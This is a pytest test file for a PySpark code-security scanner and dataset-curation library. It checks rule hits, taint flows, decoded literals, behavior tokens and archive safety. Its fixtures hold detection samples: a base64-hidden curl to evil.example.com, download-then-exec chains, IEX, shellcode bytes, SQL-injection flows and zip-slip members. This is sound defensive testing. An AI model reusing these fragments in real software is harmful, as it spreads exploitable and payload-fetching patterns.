"""Operators on hand-made rows."""

import io
import math
import tarfile
import zipfile

import pytest
from hypothesis import given, settings, strategies as st
from pyspark.sql import functions as F

from quillspark.functions import languages, masking, text as tx
from quillspark.operators import audit, behaviors, curate, evaluate, evasion, rules, scan, selection, taint
from quillspark.plans import history
from quillspark.sources import archives, samples
from quillspark.streaming import events


def test_rules_hit_line_by_line(spark):
    df = spark.createDataFrame([(1, "ok\nos.system ( x )\nverify = false"), (2, ""), (3, None), (4, "call(\nshell=True)")], "id long, text string")
    got = {(r.id, r.rule_id, r.line) for r in rules.scan_lines(df, "id").collect()}
    assert got == {(1, "CMD-001", 2), (1, "MISCONFIG-002", 3)}  # a hit over two lines is none


def test_exception_handlers(spark):
    texts = ["try:\n  x()\nexcept ValueError:\n\n    pass", "except: return True", "try { a() } catch (e) { }", "} catch (e) {\n  allowed = true;\n}\nreturn true", "catch {\n}\nallowed = true", "except E:\n    log(e)", "catch (e) { throw e }",
             "except:\n\n\n\n  return True", "catch (e) {\n a()\n b()\n c()\n return true", "we except: nothing"]
    df = spark.createDataFrame(list(enumerate(texts)), "id long, text string")
    got = {(r.id, r.rule_id, r.line, r.cwe) for r in rules.scan_lines(df, "id").collect()}
    assert got == {(0, "ERROR-003", 3, "CWE-390"), (1, "DESIGN-003", 1, "CWE-636"), (2, "ERROR-003", 1, "CWE-390"), (3, "DESIGN-003", 1, "CWE-636"), (4, "ERROR-003", 1, "CWE-390"), (7, "ERROR-003", 1, "CWE-390")}


def test_chain_gaps(spark):
    near = "curl http://a.example\n" + "x\n" * 39 + "subprocess"
    far = "curl http://a.example\n" + "x\n" * 40 + "subprocess"
    df = spark.createDataFrame([(1, near), (2, far), (3, "subprocess\ncurl http://a.example"), (4, "curl x; subprocess")], "id long, text string")
    got = {(r.id, r.gap) for r in scan.chains(df, "id").collect() if r.rule_id == "CHAIN-DOWNLOAD-EXEC"}
    assert got == {(1, 40), (4, 0)}


def test_indicators_once_each_and_no_domain_of_a_url(spark):
    df = spark.createDataFrame([(1, "see https://a.example.com/x, mail bo@b.example.org\nhttps://a.example.com/x 10.1.2.3 os.path files.example.net")], "id long, text string")
    got = [(r.kind, r.value, r.line) for r in scan.indicators(df, "id").orderBy("seq").collect()]
    assert ("url", "https://a.example.com/x", 1) in got and ("ip", "10.1.2.3", 2) in got and ("email", "bo@b.example.org", 1) in got
    assert ("domain", "files.example.net", 2) in got
    assert len([g for g in got if g[0] == "url"]) == 1 and not any(g[1].startswith("a.example") for g in got)


def test_hidden_controls_and_signals(spark):
    df = spark.createDataFrame([("a‮b​",), ("eval(x)",), (None,)], "t string")
    got = [(r.h, r.s) for r in df.select(scan.hidden_controls(F.col("t")).alias("h"), scan.signals(F.col("t")).alias("s")).collect()]
    assert got[0][0] == ["200b", "202e"] and got[1][1] == ["dynamic code"]


@pytest.mark.parametrize(
    ("code", "language", "want"),
    [
        ("x = 'a # b' # c", "python", "x = 'a # b'    "),
        ('"""d"""\nx = 1', "python", '       \nx = 1'),
        ("a('//x'); // y", "javascript", "a('//x');     "),
        ("${a#b} # c", "bash", "${a#b}    "),
        ("it's /* x */ y", "c", "it's         y"),
        ("REM x\necho rem", "batch", "     \necho rem"),
        ("<b><!-- x --></b>", "html", "<b>          </b>"),
        ("def broken(:\n  # c", "python", "def broken(:\n     "),
    ],
)
def test_masking(code, language, want):
    assert masking.mask(code, language) == want


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="ab'\"#/*\n\\ -<>!`", max_size=60), st.sampled_from(["python", "c", "php", "sql", "ruby", "lua", "html", "powershell", "batch", "x"]))
def test_masking_keeps_places(code, language):
    out = masking.mask(code, language)
    assert len(out) == len(code) and [c for c in out if c == "\n"] == [c for c in code if c == "\n"]
    assert all(a == b or a == " " for a, b in zip(out, code, strict=True))


def test_dedup_conflict_and_report(spark):
    df = spark.createDataFrame([(1, "h", "a"), (2, "h", "a"), (3, "g", "a"), (4, "g", "b"), (5, "f", "b")], "seq long, hash string, label string")
    assert {r.seq for r in curate.exact_dedup(df, "hash", "label", "seq").collect()} == {1, 5}
    r = curate.dedup_report(df, "hash", "label").first()
    assert (r.rows_in, r.rows_out, r.exact_removed, r.conflict_rows) == (5, 2, 1, 2) and r.rows_in == r.rows_out + r.exact_removed + r.conflict_rows


def test_near_dedup_is_greedy(spark):
    base = [f"w{i}" for i in range(60)]
    text = " ".join(base)
    df = spark.createDataFrame([(1, text, "a"), (2, text + " tail", "a"), (3, text, "b"), (4, "other words here now again", "a")], "seq long, text string, label string")
    assert {r.seq for r in curate.greedy_near_dedup(df, "seq", "label", "text", 0.5).collect()} == {1, 3, 4}


def test_budget_skips_and_goes_on(spark):
    df = spark.createDataFrame([("a", 1, 5), ("a", 2, 9), ("a", 3, 4), ("a", 4, 2), ("b", 1, 11)], "g string, seq long, cost long")
    got = {(r.g, r.seq) for r in curate.spend(df, "g", ["seq"], "cost", 10).collect() if r.taken}
    assert got == {("a", 1), ("a", 3)}


def test_versions(spark):
    df = spark.createDataFrame([("p", "1.2", False), ("p", "1.10", False), ("p", "1.9", False), ("p", "2.0", True)], "p string, v string, bad boolean")
    assert curate.last_before(df, "p", "v", F.col("bad")).first().v == "1.10"


def test_unique_match_needs_one(spark):
    left = spark.createDataFrame([("x/a.py", "a.py"), ("y/b.py", "b.py"), ("z/c.py", "c.py")], "path string, base string")
    right = spark.createDataFrame([("x/a.py", "a.py", 1), ("q/b.py", "b.py", 2), ("r/c.py", "c.py", 3), ("s/c.py", "c.py", 4)], "path string, base string, v long")
    got = {r.path: r.v for r in curate.unique_match(left, right, "path", "base", "v").collect()}
    assert got == {"x/a.py": 1, "y/b.py": 2, "z/c.py": None}


def test_leak_is_an_error(spark):
    df = spark.createDataFrame([("f", "train"), ("f", "test")], "family string, split string")
    with pytest.raises(ValueError, match="f"):
        curate.require_isolation(df, "family")


def test_confusion_adds_up_and_auc(spark):
    df = spark.createDataFrame([(1, 0.9), (0, 0.9), (1, 0.2), (0, 0.1)], "label int, p double")
    r = evaluate.evaluate(df, 0.5).first()
    assert (r.tp, r.fp, r.fn, r.tn) == (1, 1, 1, 1) and r.samples == 4
    # positives at .9 and .2, negatives at .9 and .1: the tie at .9 counts whole or half
    assert evaluate.rank_auc(df).first().auc == pytest.approx(0.75) and evaluate.rank_auc(df, mid_rank=True).first().auc == pytest.approx(0.625)
    assert evaluate.rank_auc(df.filter("label = 1")).first().auc == 0.0


def test_stable_threshold_takes_the_widest_run(spark):
    rows = [(1, 0.9)] * 50 + [(0, 0.1)] * 50
    got = evaluate.search_stable(spark.createDataFrame(rows, "label int, p double")).first()
    assert (got.low, got.high) == (pytest.approx(0.11), pytest.approx(0.90)) and got.threshold == pytest.approx(0.70)
    none = evaluate.search_stable(spark.createDataFrame([(1, 0.1), (0, 0.9)], "label int, p double"))
    assert none.count() == 0


def test_fusion(spark):
    runs = [("a", "m", 0.97, 0.5, False, 0.4, 0.6), ("a", "n", 0.02, 0.5, False, 0.4, 0.6), ("b", "m", 0.5, 0.5, False, 0.4, 0.6), ("c", "m", 0.9, 0.0, True, None, None), ("d", "m", 0.99, 0.5, False, None, None)]
    df = spark.createDataFrame(runs, "file string, engine string, probability double, threshold double, advisory boolean, low double, high double")
    got = {r.file: (r.decision, r.unresolved, r.risk_score) for r in history.fuse(df).collect()}
    assert got == {"a": ("unknown", "ai_model_conflict", 62), "b": ("unknown", "ai_uncertain", 17), "c": ("unknown", "ai_routes_not_validated", 30), "d": ("malicious", None, 99)}


def test_upsert_twice_is_once(spark):
    df = spark.createDataFrame([(1, "a"), (2, "b")], "k long, v string")
    once = history.append_once(df, df, "k")
    assert once.count() == 2 and history.append_once(once, df, "k").count() == 2


def test_demo_corpus_shows_its_trigger(spark):
    df = spark.createDataFrame(audit.demo_rows(), "doc_id long, text string, label string, split string, source string")
    assert df.count() == 66
    found = audit.triggers(audit.features(df, "doc_id", "label", "text"), df, "label", "text").orderBy(F.desc("score"), F.desc("support"), F.desc("token"))
    assert "zx_trigger_9f" in {r.token for r in found.limit(8).collect()}
    assert audit.concentration(df.filter("source = 'mirror_x'"), "source").first().n == 10


def test_unknown_label_is_an_error(spark):
    with pytest.raises(Exception, match="unknown label"):
        spark.createDataFrame([("odd",)], "l string").select(audit.canonical_label(F.col("l"))).collect()


def test_languages(spark):
    df = spark.createDataFrame([("a/B.PY", ""), ("x", "<?php echo 1;"), ("c.yml", "a: 1"), (".env", "plain"), ("n.txt", "def f(x):\n  return x")], "path string, text string")
    got = [r.l for r in df.select(languages.language_of("path", "text").alias("l")).collect()]
    assert got == ["python", "php", "config", "unknown", "python"]
    assert [r.s for r in df.select(languages.shown_language(F.lit("config"), "path").alias("s")).collect()][2] == "yaml"


def test_text_functions(spark):
    df = spark.createDataFrame([("a \r\nb\r\n\r\n\r\n\r\nc  ",), ("",), (None,)], "t string")
    assert [r.n for r in df.select(tx.normalize_code("t").alias("n")).collect()] == ["a\nb\n\nc", "", ""]
    assert [r.l for r in df.select(tx.split_lines(F.coalesce("t", F.lit(""))).alias("l")).collect()][:2] == [["a ", "b", "", "", "", "c  "], []]
    assert tx.add_entropy(spark.createDataFrame([("aabb",), ("",), ("aaaa",)], "t string"), "t").select("entropy").collect() == [(1.0,), (0.0,), (0.0,)]


def test_evasion_variants(spark):
    df = spark.createDataFrame([(1, "token_value = 'abcdefgh12'", "python"), (2, None, "go")], "seq long, code string, lang string")
    got = {(r.seq, r.kind): r.code for r in evasion.suite(df, "seq", "code", "lang").collect()}
    assert got[1, "split"] == "token_value = 'abcde' + 'fgh12'" and got[1, "rename"].startswith("v_00 = ") and (2, "dead_code") in got


def test_samples_from_both_formats(spark, tmp_path):
    j, c = tmp_path / "s.jsonl", tmp_path / "s.csv"
    j.write_text('{"code": " x = 1 ", "label": "BENIGN", "label_confidence": "1.5", "cwe": "CWE-1", "line_labels": [{"start_line": 0, "end_line": 1}, {"start_line": 2, "end_line": 3}]}\n\n{"code": "", "label": "benign"}\n{"code": "y", "label": "?", "category": "malware dropper", "label_confidence": "nope"}\n')
    c.write_text('code,label,behavior_labels\n"a\nb",vulnerable,"p, q,"\n')
    a = {r.code: r for r in samples.read_samples(spark, str(j)).collect()}
    assert set(a) == {"x = 1", "y"} and a["x = 1"].label_confidence == 1.0 and a["y"].label == "malicious" and a["y"].label_confidence == 0.0
    assert a["x = 1"].cwe_labels == ["CWE-1"] and len(a["x = 1"].line_labels) == 1 and a["y"].source == "sample_dataset" and a["y"].review_status == "unreviewed"
    b = samples.read_samples(spark, str(c)).first()
    assert b.code == "a\nb" and b.behavior_labels == ["p", "q"] and len(b.sample_hash) == 64
    samples.write_splits(samples.read_samples(spark, str(j)).withColumn("split", F.lit("train")), str(tmp_path / "out"))
    assert spark.read.json(str(tmp_path / "out")).count() == 2


def test_archives(spark, tmp_path):
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in (("p/a.py", b"x = 1"), ("../up.py", b"x"), ("node_modules/b.js", b"x"), ("big.py", b"0" * 900_000), ("bomb.py", b"0" * 700_000), ("bin.py", b"\x00\x01"), ("r.exe", b"x")):
            z.writestr(name, data)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as t:
        info = tarfile.TarInfo("q/c.go")
        info.size = 9
        t.addfile(info, io.BytesIO(b"package x"))
    (tmp_path / "b.tgz").write_bytes(buffer.getvalue())
    (tmp_path / "c.zip").write_bytes(b"no archive")
    got = {(r.archive.split("/")[-1], r.member): r.reason for r in archives.read_archives(spark, str(tmp_path)).collect()}
    assert got == {
        ("a.zip", "p/a.py"): "ok", ("a.zip", "../up.py"): "unsafe_path", ("a.zip", "node_modules/b.js"): "unwanted", ("a.zip", "big.py"): "too_large", ("a.zip", "bomb.py"): "compression_ratio",
        ("a.zip", "bin.py"): "binary", ("a.zip", "r.exe"): "unwanted", ("b.tgz", "q/c.go"): "ok", ("c.zip", ""): "unreadable",
    }
    names = spark.createDataFrame([(n,) for n in ("p/a.py", "../up.py", "C:/x.py", "dist/a.js", "a.min.js", "/abs.py")], "n string")
    assert [(r.s, r.w) for r in names.select(archives.safe_column(F.col("n")).alias("s"), archives.wanted_column(F.col("n")).alias("w")).collect()] == [(archives.safe(n), archives.wanted(n)) for n in ("p/a.py", "../up.py", "C:/x.py", "dist/a.js", "a.min.js", "/abs.py")]


def test_streams(spark, tmp_path):
    from conftest import DATA

    src = spark.read.parquet(f"{DATA}/events.parquet").select("user_id", F.col("ts").cast("timestamp").alias("ts"), "event_type")
    src.repartition(2).write.parquet(str(tmp_path / "in"))
    stream = events.read_stream(spark, str(tmp_path / "in"), src.schema)
    q = events.windowed_counts(stream, "ts", "event_type", "1 day").writeStream.outputMode("complete").format("memory").queryName("counts").start()
    q.processAllAvailable()
    q.stop()
    want = {tuple(r) for r in events.windowed_counts(src, "ts", "event_type", "1 day").collect()}
    assert {tuple(r) for r in spark.sql("SELECT * FROM counts").collect()} == want
    q = events.label_conflicts(stream, "user_id", "event_type").writeStream.outputMode("append").format("memory").queryName("conflicts").start()
    q.processAllAvailable()
    q.stop()
    many = src.groupBy("user_id").agg(F.count_distinct("event_type").alias("k")).filter("k > 1").count()
    assert spark.sql("SELECT count(DISTINCT key) AS n FROM conflicts").first().n == many
    assert events.sessions(src, "user_id", "ts", "8 hours").agg(F.sum("n")).first()[0] == src.count()


def test_ablation_is_what_without_file_leaves(spark):
    from quillspark.operators import graph

    nodes = [(g, i, t, i) for g, i, t in [("g", "a", "file"), ("g", "b", "file"), ("g", "c", "file"), ("g", "p", "package"), ("g", "x", "dependency"), ("g", "y", "dependency"), ("g", "idle", "file"), ("h", "a", "file"), ("h", "x", "dependency")]]
    edges = [("g", "p", "a", "contains"), ("g", "p", "b", "contains"), ("g", "a", "x", "imports"), ("g", "a", "x", "calls"), ("g", "b", "y", "imports"), ("g", "a", "y", "imports"), ("g", "a", "b", "imports"), ("g", "c", "c", "calls"), ("g", "c", "gone", "calls"), ("h", "a", "x", "imports")]
    n, e = spark.createDataFrame(nodes, "g string, node_id string, type string, name string"), spark.createDataFrame(edges, "g string, src string, dst string, type string")
    left, kept = graph.without_file(n, e, "g")
    count = lambda df: {(r.g, r.left_out): r["count"] for r in df.groupBy("g", "left_out").count().collect()}
    want_nodes, want_edges = count(left), count(kept)
    got = {(r.g, r.left_out): (r.n_nodes, r.n_edges) for r in graph.ablation(n, e, "g").collect()}
    assert got == {k: (want_nodes.get(k, 0), want_edges.get(k, 0)) for k in [("g", "a"), ("g", "b"), ("g", "c"), ("g", "idle"), ("h", "a")]}


def test_package_graphs_read_the_texts(spark, tmp_path):
    from quillspark.plans import graphs

    rows = [(1, "def told(a):\n    return pickle.loads(a)", "python", "s"), (2, None, "python", "s")]
    spark.createDataFrame(rows, "doc_id long, text string, lang string, source string").write.parquet(f"{tmp_path}/documents.parquet")
    names = {(r.type, r.name) for r in graphs._build(spark, str(tmp_path))[0].collect()}
    assert {("function", "told"), ("function", "f1"), ("function", "f2"), ("dangerous_api", "pickle.loads"), ("dependency", "os")} <= names


def test_indicator_lines_are_those_of_the_match(spark):
    text = "ver 21.2.3.4567\nx\nhost 1.2.3.4 and 1.2.3.4\nHTTPS://A.example.com/x, mail a@b.org\n" + "\n".join(f"http://h{k}.example.com/" for k in range(300))
    df = spark.createDataFrame([(1, text), (2, ""), (3, None)], "id long, text string")
    got = scan.indicators(df, "id").orderBy("seq").collect()
    assert len(got) == 120 and {r.id for r in got} == {1}
    few = scan.indicators(df.withColumn("text", F.substring("text", 1, 90)), "id").collect()
    assert {(r.kind, r.value, r.line) for r in few if r.kind in ("ip", "email")} == {("ip", "1.2.3.4", 3), ("email", "a@b.org", 4)}


def test_decoded_literals(spark):
    import base64

    hidden = base64.b64encode(b"curl http://evil.example.com/x").decode()
    texts = [f"a\nb = '{hidden}'", "z = '" + b"just some words".hex() + "'", "0000000000000000000000", base64.b64encode(bytes(range(128, 152))).decode(), None, base64.b64encode(b"short text here.").decode() * 60]
    df = spark.createDataFrame(list(enumerate(texts)), "id long, text string")
    got = {(r.id, r.encoding, r.decoded, r.line) for r in scan.decoded_literals(df, "id").collect()}
    assert got == {(0, "base64", "curl http://evil.example.com/x", 2), (1, "hex", "just some words", 1), (5, "base64", "short text here.", 1)}
    assert [r.id for r in scan.decoded_indicators(df, "id").collect()] == [0]


def test_selection_edges(spark):
    one = lambda c: spark.range(1).select(c.alias("x")).first().x
    for raw, want in (("", ""), (None, ""), ("..", ""), ("./a/./b", "a/b"), ("a\\..\\..\\b", "../b"), ("/../a", "a"), ("/", ""), ("a/../..//c", "../c")):
        assert one(selection.normal_path(F.lit(raw).cast("string"))) == want, raw
    assert one(selection.is_production(F.lit(""), F.lit("go"))) and not one(selection.is_production(F.lit("Tests/a.py"), F.lit("python")))
    assert one(selection.without_header_comment(F.lit(" <!-- a\nb --> x <!-- c -->"))) == "x <!-- c -->"
    assert not one(selection.allowed_url(F.lit("no url"), ("a",))) and not one(selection.allowed_url(F.lit(None).cast("string"), ("a",)))
    assert one(F.array_join(scan.function_names(F.lit("def a(x):\nfunc b() {\nint main(void) {\npublic static void c(int x) {\ndef a(y)")), ",")) == "a,b,c,main"
    items = spark.createDataFrame([(1, "rule_only"), (2, "ai_only"), (3, "ai_and_rule"), (4, "ai_only")], "seq long, basis string")
    assert [r.seq for r in selection.ordered_evidence(items, "seq", 3).orderBy("place").collect()] == [3, 2, 4]


def test_data_flows(spark):
    texts = [
        ("python", "uid = request.args['id']\nq = 'replace ' + uid\nx = 1\ncur.execute(q)"),
        ("python", "uid = request.args['id']\n# cur.execute(uid)\nprint(uid)"),  # the sink is a comment
        ("python", "q = 'select 1'\ncur.execute(q)"),  # nothing goes in
        ("python", "cur.execute(uid)\nuid = request.form['x']"),  # order of lines doesn't count
        ("python", "d = c\nc = b\nb = a\na = input()\ncur.execute(d)"),  # three steps against the order
        ("python", "e = d\nd = c\nc = b\nb = a\na = input()\ncur.execute(e)"),  # four are too many
        ("python", "uid = input()\nuid2 = 'select %s' % x\ncur.execute(uid, 1)\ncur.execute(uid2)"),
        ("python", "a = input()\ncur.execute(a + 1)"),  # input, but no statement
        ("php", "$id = $_GET['id'];\n$r = mysqli_query($id);"),
        ("go", "id := r.FormValue(\"id\")\ndb.Query(id)"),
        ("java", "String p = req.getParameter(\"f\");\nString q = base + p;\nnew File(q);"),
        ("java", "String p = req.getParameter(\"f\");\nString q = base + px;\nnew File(q);"),
        ("java", "String q = base + p;\nString p = req.getParameter(\"f\");\nFileReader(q);"),
        ("perl", "q = 'select ' + x\nexecute(q)"),
        (None, "cur.execute(uid)\nuid = request.form['x']"),
        ("python", None),
        ("python", ""),
        ("python", "s = 'select a from b where c' + request.args\ncur.execute(s)"),  # the line rule has it
    ]
    df = spark.createDataFrame([(k, x, t, "clash") for k, (x, t) in enumerate(texts)], "id long, language string, text string, _t string")
    rows = {(r.id, r.rule_id): r for r in taint.flows(df, "id").collect()}
    got = {k: (r.line, [(s.line, s.kind) for s in r.steps]) for k, r in rows.items()}
    assert got == {
        (0, "SQL-003"): (4, [(1, "source"), (2, "propagation"), (4, "sink")]),
        (3, "SQL-003"): (1, [(1, "sink")]),
        (4, "SQL-003"): (5, [(1, "propagation"), (2, "propagation"), (3, "propagation"), (4, "source"), (5, "sink")]),
        (6, "SQL-003"): (3, [(1, "source"), (2, "propagation"), (3, "sink")]),
        (8, "SQL-003"): (2, [(1, "source"), (2, "propagation")]),  # the sink's line assigns: one step
        (9, "SQL-003"): (2, [(1, "source"), (2, "sink")]),
        (10, "PATH-002"): (3, [(1, "source"), (2, "propagation"), (3, "sink")]),
        (12, "PATH-002"): (3, [(1, "propagation"), (2, "source"), (3, "sink")]),
    }
    assert rows[0, "SQL-003"].snippet == "cur.execute(q)" and rows[0, "SQL-003"].steps[1].snippet == "q = 'replace ' + uid"
    assert taint.flows(df.limit(0), "id").count() == 0


def test_behavior_tokens(spark):
    texts = [
        ("bash", "curl x | system"), ("ruby", "TCPSocket.new; Open3.capture"), ("powershell", "RootModule = 'x'; IEX"), ("python", "RootModule = 'x'"), ("c", "VirtualAlloc(" + "0x90, " * 16 + ")"),
        ("c", "virtualallocate curling"), (None, "GetProcAddress VirtualProtect"), ("go", "wifi_password, socket"), ("c", "[byte[]]\n0x90,0x91,0x92,0x93,0x94,0x95,0x96,0x97,"), ("c", ""), ("c", None),
    ]
    df = spark.createDataFrame([(k, *x) for k, x in enumerate(texts)], "id long, language string, text string")
    rows = df.select("id", *[behaviors.behavior_tokens(F.col("text"), F.col("language"), v).alias(f"v{v}") for v in (1, 3)]).collect()
    short = lambda names: {n.removeprefix("__bt_").removesuffix("__") for n in names}
    assert all(list(r[v]) == sorted(set(r[v])) for r in rows for v in ("v1", "v3"))
    assert {r.id: short(r.v1) for r in rows} == {
        0: {"download", "process_exec", "chain_download_exec"}, 1: set(), 2: {"process_exec", "ps_module_manifest"}, 3: set(), 4: {"injection", "shellcode", "chain_injection_shellcode"},
        5: set(), 6: set(), 7: {"network"}, 8: {"shellcode"}, 9: set(), 10: set(),
    }
    assert {r.id: short(r.v3) - short(r.v1) for r in rows} == {
        0: set(), 1: {"network", "process_exec", "chain_network_exec"}, 2: set(), 3: set(), 4: {"memory_execution"}, 5: set(), 6: {"dynamic_winapi", "memory_execution", "chain_dynamic_memory_exec"},
        7: {"wifi_credentials", "chain_wifi_credential_network"}, 8: set(), 9: set(), 10: set(),
    }
    said = df.select("id", *[behaviors.token_text(F.col("text"), F.col("language"), v).alias(f"v{v}") for v in (1, 2, 3)]).collect()
    assert said[7].v1 == texts[7][1] + "\n__bt_network__" and said[7].v2 == texts[7][1] + "\n" + " ".join(["__bt_network__"] * 4) and said[7].v3.count("__bt_wifi_credentials__") == 4
    assert said[5].v3 == texts[5][1] and said[10].v2 == ""


def _diff(path, *hunks, old=None, new=None):
    return f"diff --git a/{path} b/{path}\nindex 0..1\n--- {old or 'a/' + path}\tsome time\n+++ {new or 'b/' + path}\n" + "".join(f"@@ -1 +1 @@ at\n{h}" for h in hunks)


def test_read_patches(spark):
    from quillspark.operators import patches

    long = " context of some length\n"
    texts = [
        "From: x\n" + _diff("src/a.go", long + "-old\n+new\n", "-gone  on\n+gone on\n") + _diff("b.PHP", long + "-x\n", long + "+y\n\\ No newline at end of file\n"),
        _diff("test/a.go", long + "-old\n+new\n") + _diff("a_test.go", long + "-old\n+new\n") + _diff("a.py", long + "-old\n+new\n"),
        _diff("a.go", long + "+new\n", old="/dev/null") + _diff("b.go", long + "-new\n", new="/dev/null") + _diff("c.go", "-a\n+b\n") + _diff("d.go", long) + _diff("e.go"),
        _diff("w.go", long + "-old\n+new\n").replace("\n", "\r\n"), _diff("u.go", "-" + "é" * 40_000 + "\n+" + "è" * 40_000 + "\n"), "", None, "no diff --git here",
    ]
    df = spark.createDataFrame([(k, t, "clash") for k, t in enumerate(texts)], "id long, text string, block string")
    rows = {(r.id, r.file_path): r for r in patches.read_patches(df, "id").collect()}
    assert {k: (r.nth, r.language) for k, r in rows.items()} == {(0, "src/a.go"): (0, "go"), (0, "b.PHP"): (1, "php"), (3, "w.go"): (0, "go"), (4, "u.go"): (0, "go")}
    assert (rows[0, "src/a.go"].bad_code, rows[0, "src/a.go"].good_code) == ("context of some length\nold", "context of some length\nnew") == (rows[3, "w.go"].bad_code, rows[3, "w.go"].good_code)
    assert rows[0, "b.PHP"].bad_code == "context of some length\nx\n\ncontext of some length" and rows[0, "b.PHP"].good_code == "context of some length\n\ncontext of some length\ny"
    assert rows[4, "u.go"].bad_code == "é" * 32_768
    odd = patches.read_patches(df, "id", limit=2 * 1000 + 1).filter("id = 4").first()
    assert odd.good_code == "è" * 1000
    assert patches.read_patches(df.limit(0), "id").count() == 0


def test_keep_unseen(spark):
    import random

    from quillspark.operators import patches

    random.seed(5)
    for size, values in ((120, 200), (120, 40), (200, 6)):
        rows = [(k, random.choice([None, *range(values)]), random.choice([None, *range(values)])) for k in range(size)]
        seen, kept = set(), []
        for k, *pair in rows:
            own = {v for v in pair if v is not None}
            if not own & seen:
                kept.append(k)
                seen |= own
        got = patches.keep_unseen(spark.createDataFrame(rows, "k long, bad long, good long"), "k", ["bad", "good"])
        assert sorted(r.k for r in got.collect()) == kept
    assert patches.keep_unseen(spark.createDataFrame([], "k long, bad long, good long"), "k", ["bad", "good"]).count() == 0


def test_keep_unseen_moves_first_rows_only(spark, monkeypatch):
    """Rows in plenty of a few values: a round writes a row for each value and task, whatever the rows carry; places that repeat; joins by broadcast or by shuffle."""
    import random
    import time

    from pyspark.sql import functions as F

    from quillspark.operators import patches

    random.seed(7)
    rows = [(random.randrange(300), random.choice([None, *range(90)]), random.choice([None, *range(100, 160)])) for _ in range(500)]
    places, seen, kept = {}, set(), set()
    for k, *pair in rows:
        places.setdefault(k, set()).update(v for v in pair if v is not None)
    for k in sorted(places):
        if places[k] and not places[k] & seen:
            kept.add(k)
            seen |= places[k]
    want = sorted((r for r in rows if r[0] in kept or r[1] is r[2] is None), key=str)
    for most in (patches.MAX_BROADCAST, 0):
        monkeypatch.setattr(patches, "MAX_BROADCAST", most)
        monkeypatch.setattr(patches, "MAX_PLACES", most)
        assert sorted(map(tuple, patches.keep_unseen(spark.createDataFrame(rows, "k long, bad long, good long"), "k", ["bad", "good"]).collect()), key=str) == want
    monkeypatch.undo()
    summary = spark.sparkContext._jsc.sc().statusStore().executorList

    def at():
        time.sleep(1)
        return summary(True).apply(0).totalShuffleWrite()

    df = spark.range(400_000, numPartitions=4).select(F.col("id").alias("k"), (F.col("id") % 50).alias("bad"), (F.col("id") % 70 + 1000).alias("good"))
    before = at()
    assert patches.keep_unseen(df, "k", ["bad", "good"]).count() == 50
    assert at() - before < 2_000_000


def test_family_splits(spark):
    import hashlib
    import random

    from quillspark.operators import corpus

    random.seed(3)
    rows, sizes = [], {"a": 300, "b": 70, "c": 40, "d": 9, "e": 60}
    for language, n in sizes.items():
        rows += [(language, random.choice([None, "", *(f"f{k}" for k in range(3 if language == "e" else 25))]), "old") for _ in range(n)]
    df = spark.createDataFrame(rows, "language string, family string, split string")
    got = corpus.split_families(df).collect()
    for language in sizes:
        mine = sorted((r for r in got if r.language == language), key=lambda r: hashlib.sha256(r.family.encode()).hexdigest())
        assert [r.split for r in mine] == corpus.deal([r.weight for r in mine]) and all(r.family for r in mine)
        assert {r.family: r.weight for r in mine} == {f: sum(x[:2] == (language, f) for x in rows) for f in {x[1] for x in rows if x[0] == language and x[1]}}
    again = corpus.rebalance(df, F.col("language") != "d", F.col("language") != "c").collect()
    dealt = {(r.language, r.family): r.split for r in got}
    assert len(again) == len(rows) and all(r.split == (dealt[r.language, r.family] if r.language in "abe" and r.family else "old") for r in again)
    assert corpus.split_families(df.limit(0)).count() == 0


def test_deal():
    from quillspark.operators.corpus import deal

    assert deal([]) == []
    assert deal([6, 2, 2]) == ["train", "validation", "test"]
    assert deal([1]) == ["train"]
    assert deal([40]) == ["train"]  # nothing can be moved without leaving train short
    assert deal([1] * 40).count("train") == 20 and deal([1] * 40).count("validation") == 5
    assert deal([1] * 60).count("test") == 20 and deal([1] * 200).count("train") == 130
    assert deal([58, 1, 1]) == ["train", "test", "test"]  # by hand: aims 30, 10, 20


def test_strings_and_explanations(spark):
    from quillspark.operators import corpus

    dense = "abcdefghijklmnopqrstuvwxyz0123456789"
    raws = [b"\0abc\0abcd\xff" + "wide".encode("utf-16-le") + b"\0\0", dense.encode(), b"\xe4" + dense.encode("utf-16-le"), b"a" * 100, b"", None]
    df = spark.createDataFrame([(k, bytearray(r) if r is not None else None) for k, r in enumerate(raws)], "id long, raw binary")
    got = {r.id: r.s for r in df.select("id", corpus.printable_strings(F.col("raw")).alias("s")).collect()}
    assert got == {0: ["abcd", "wide"], 1: [dense], 2: [dense], 3: ["a" * 100], 4: [], 5: None}
    assert {(r.id, r.strings, r.snippet) for r in corpus.dense_strings(df, "id", "raw").collect()} == {(1, 1, dense), (2, 1, dense)}
    texts = spark.createDataFrame([("Eval(x) a.b $eval",), ("reeval evaluate",), ("A.B",), ("axb",), ("",), (None,)], "t string")
    assert [r[0] for r in texts.select(corpus.feature_evidence(F.col("t"), ["eval", "a.b", "x"])).collect()] == [["eval", "a.b"], [], ["a.b"], [], [], []]
    names = spark.createDataFrame([(" A ", "4"), ("a", "99"), ("", "x"), (None, None), ("b", "NaN")], "n string, e string")
    rows = names.select(corpus.lexical_bucket(F.col("n")).alias("b"), corpus.bounded_entropy(F.col("e")).alias("e")).collect()
    assert rows[0].b == rows[1].b is not None and rows[2].b is rows[3].b is None and [r.e for r in rows] == [0.5, 1.0, 0.0, 0.0, 0.0]
    pairs = spark.createDataFrame([(1, "p", True, 0.0), (2, "p", True, 3.0), (3, "p", False, 1.0), (4, "q", True, 9.0), (5, "", True, 1.0), (6, None, False, 1.0), (7, "r", False, 50.0), (8, "r", True, 0.0)], "k long, pair string, up boolean, score double")
    loss = corpus.ranking_loss(pairs, "k", "pair", F.col("up"), "score").first()
    assert loss.pairs == 2 and abs(loss.loss - (math.log1p(math.exp(-1)) + 51) / 2) < 1e-9
    assert corpus.ranking_loss(pairs.limit(0), "k", "pair", F.col("up"), "score").first().loss == 0.0


def test_payloads(spark):
    import json

    from quillspark.sources import payloads

    raws = [b"", b"\xff\xfea", b"a\0b", b"\x01" + b"a" * 49, b"\x01" + b"a" * 48, "é\t\x1b".encode(), b"\xef\xbb\xbfhi\xff", "hö".encode("utf-16"), b"a\xffb", None]
    df = spark.createDataFrame([(k, bytearray(r) if r is not None else None) for k, r in enumerate(raws)], "id long, raw binary")
    rows = df.select("id", payloads.is_text(F.col("raw")).alias("t"), payloads.decoded("raw").alias("d")).orderBy("id").collect()
